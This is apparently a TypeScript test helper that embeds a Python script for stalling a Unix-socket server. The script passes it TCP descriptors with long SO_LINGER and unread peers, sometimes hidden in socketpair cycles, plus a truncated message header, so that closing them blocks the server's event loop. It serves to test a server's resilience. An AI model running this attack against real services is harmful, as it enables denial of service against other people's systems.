import { spawnSync } from 'node:child_process';

/**
 * A client that passes descriptors whose last close blocks: TCP connections with SO_LINGER whose
 * peer never reads. It connects `connections` times, sends what `first` names together with the
 * descriptors, and exits. Another process keeps the peer and prints its pid.
 *
 * `first`: a byte, half a greeting, or a whole message header that announces a payload which never
 * comes. `shape`: `flat` sends the TCP connections themselves; `cycle` sends sockets that hold each
 * other and the TCP connections in their queues.
 */
const ATTACK = `
import array, os, socket, struct, sys
path, first, shape, connections, each, linger = *sys.argv[1:4], *map(int, sys.argv[4:7])
server = socket.create_server(("127.0.0.1", 0))
def lingering():
    one = socket.create_connection(server.getsockname())
    peers.append(server.accept()[0])
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, linger))
    one.setblocking(False)
    try:
        while True: one.send(b"x" * 65536)
    except BlockingIOError: pass
    return one
def files():
    if shape == "flat": return [lingering() for _ in range(each)]
    left, right = socket.socketpair()
    inside = [lingering() for _ in range(each)]
    hidden.extend(inside)
    socket.send_fds(left, [b"x"], [left.fileno(), right.fileno()] + [one.fileno() for one in \
inside])
    socket.send_fds(right, [b"x"], [left.fileno(), right.fileno()])
    return [left, right]
greeting = {"byte": b"x", "half": struct.pack("<IIQ", 1, 64, 0) + b"y" * 8, "header": \
struct.pack("<IIQ", 1, 64, 0)}[first]
peers, hidden = [], []
sent = [(files(), socket.socket(socket.AF_UNIX)) for _ in range(connections)]
attacker = os.fork()
if attacker == 0:
    for passed, connection in sent:
        connection.connect(path)
        socket.send_fds(connection, [greeting], [one.fileno() for one in passed])
    os._exit(0)
for one in hidden: os.close(one.detach())
del sent
_, status = os.waitpid(attacker, 0)
holder = os.fork()
if holder > 0:
    print(holder if status == 0 else -1)
    sys.stdout.flush()
    os._exit(0)
os.setsid()
for fd in range(3): os.close(fd)
os.read(os.pipe()[0], 1)
`;

export interface Attack {
  readonly first?: 'byte' | 'half' | 'header';
  readonly shape?: 'flat' | 'cycle';
  readonly connections?: number;
  /** Descriptors in each connection. */
  readonly each?: number;
}

/**
 * Seconds for which the close of each descriptor blocks. Longer than the timeout of a test: a close
 * in the event loop fails the test.
 */
const LINGER_S = 300;

/**
 * Runs the attack. It blocks this process, so the attacker's connections wait in the backlog when
 * it returns. Returns the pid of the process that keeps the peers; the caller kills it.
 */
export function attack(
  socket: string,
  { first = 'byte', shape = 'flat', connections = 1, each = 1 }: Attack = {},
): number {
  const words = [socket, first, shape, connections, each, LINGER_S].map(String);
  const { stdout, stderr } = spawnSync('python3', ['-c', ATTACK, ...words], { encoding: 'utf8' });
  const holder = Number(stdout);
  if (!(holder > 0)) throw new Error(`the attack failed: ${stdout}${stderr}`);
  return holder;
}
